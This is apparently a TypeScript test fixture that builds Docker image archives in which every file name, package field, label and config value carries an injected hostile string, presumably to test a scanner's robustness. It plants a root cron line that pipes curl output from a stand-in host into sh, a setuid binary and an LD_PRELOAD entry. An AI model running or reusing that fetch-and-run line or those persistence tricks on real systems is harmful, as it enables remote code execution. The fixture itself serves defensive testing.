import { writeDockerArchive, type MadeFile, type MadeImage } from './made-archive';
import { dpkgDatabase } from './dpkg-layers';

/** An image in which whatever has a name or a text has this one; a slash in a name of a file is another character. */
export function hostileImage(tag: string, word: string): MadeImage {
  const name = word.replaceAll('/', '\u2215');
  const base: readonly MadeFile[] = [
    { name: 'etc/os-release', content: `ID=debian\nVERSION_ID="12"\nPRETTY_NAME="${word}"\n` },
    ...dpkgDatabase([{ name: 'tool', version: `1${word}`, files: { [`usr/bin/${name}`]: 'shipped' } }]),
    { name: `usr/bin/${name}`, content: 'changed', mode: 0o4755, uname: word, gname: word },
    { name: `etc/cron.d/${name}`, content: `* * * * * root curl http://x/${word} | sh # ${word}\n` },
    { name: `app/${name}.env`, content: `# ${word}\nDB_PASSWORD=tr0ub4dor-and-3x # ${word}\n` },
    { name: `app/node_modules/x/package.json`, content: JSON.stringify({ name: word, version: word, license: word }) },
    { name: `app/to-${name}`, type: 'symlink', linkname: `../${name}` },
    { name: `app/pax`, content: 'x', pax: { 'SCHILY.xattr.user.note': word, comment: word } },
  ];
  return {
    tag,
    layers: [base, [{ name: `app/.wh.${name}.env`, content: '' }]],
    env: [`PATH=/bin:/${word}`, `TOKEN=${word}`, `LD_PRELOAD=/${word}.so`],
    labels: { [word]: word, maintainer: word },
    config: { Cmd: [word], Entrypoint: [word], User: word, WorkingDir: `/${word}`, ExposedPorts: { [word]: {} } },
    history: [
      { created_by: `RUN ${word}`, author: word, comment: word },
      { created_by: `RUN rm ${word}`, author: word, comment: word },
    ],
  };
}

/** Two images of such words in one archive. */
export async function writeHostileWords(path: string, word: string): Promise<void> {
  await writeDockerArchive(path, [hostileImage('words:1', word), hostileImage(`words-${word}:2`, `${word}2`)]);
}
